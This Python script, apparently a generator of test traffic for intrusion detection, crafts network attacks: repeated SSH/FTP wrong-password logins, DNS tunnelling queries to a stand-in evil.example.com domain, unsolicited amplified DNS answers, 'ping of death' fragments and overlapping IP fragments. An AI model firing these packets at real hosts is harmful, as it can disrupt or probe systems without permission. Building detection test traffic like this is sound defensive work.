"""Attacks that no packaged tool makes, and the servers that they are made on.

attacks.py NAME TARGET [ARGUMENT]
"""

import socket
import struct
import sys
import threading
import time


def brute(target, service):
    """Logs in twenty times with a wrong password."""
    port = {"ssh": 22, "ftp": 21}[service]
    for attempt in range(20):
        with socket.create_connection((target, port), timeout=5) as server:
            server.recv(200)
            lines = [b"SSH-2.0-tries\r\n"] if service == "ssh" else [b"USER root\r\n", b"PASS secret\r\n"]
            for line in lines:
                server.sendall(line)
                server.recv(200)


def server(_, service):
    """Refuses every login; prints a line once it listens."""
    port = {"ssh": 22, "ftp": 21}[service]
    listener = socket.create_server(("", port))
    print("listens", flush=True)

    def serve(client):
        with client:
            client.sendall(b"SSH-2.0-OpenSSH_9.2\r\n" if service == "ssh" else b"220 ready\r\n")
            while data := client.recv(200):
                reply = b"530 no\r\n" if data.startswith(b"PASS") else b"331 password\r\n"
                client.sendall(bytes(64) if service == "ssh" else reply)

    while True:
        threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()


def question(number, name, kind, flags=0x0100):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", number, flags, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def tunnel(target, _):
    """Carries data in names."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        for number in range(100):
            name = f"{number:04x}{'deadbeef' * 6}.t.evil.example.com"
            client.sendto(question(number, name, 16), (target, 53))
            time.sleep(0.005)


def amplify(target, _):
    """Sends large answers that nobody asked for."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as reflector:
        reflector.bind(("", 53))
        for number in range(100):
            reflector.sendto(question(number, "example.com", 255, 0x8400) + bytes(1200), (target, 40000))
            time.sleep(0.005)


def packet(source, target, payload, offset, more, protocol=1):
    place = (0x2000 if more else 0) | offset // 8
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(payload), 7, place, 64, protocol, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target)
    total = sum(struct.unpack(">10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    return head[:10] + struct.pack(">H", ~total & 0xFFFF) + head[12:] + payload


def fragments(target, interface, source, parts):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind((interface, 0))
        for payload, offset, more in parts:
            frame = b"\xff" * 6 + b"\x02\0\0\0\0\x66" + b"\x08\0" + packet(source, target, payload, offset, more)
            link.send(frame)


def death(target, argument):
    """A ping whose fragments reach beyond what a packet may have."""
    interface, source = argument.split(",")
    fragments(target, interface, source, [(b"\x08\0" + bytes(1478), 0, True), (bytes(1000), 65120, False)])


def overlap(target, argument):
    """Fragments that say different things about the same bytes."""
    interface, source = argument.split(",")
    fragments(target, interface, source, [(b"\x08\0" + bytes(798), 0, True), (bytes(800), 400, False)])


if __name__ == "__main__":
    name, target, argument = (sys.argv[1:] + ["", ""])[:3]
    {
        "brute": brute,
        "server": server,
        "tunnel": tunnel,
        "amplify": amplify,
        "death": death,
        "overlap": overlap,
    }[name](target, argument)
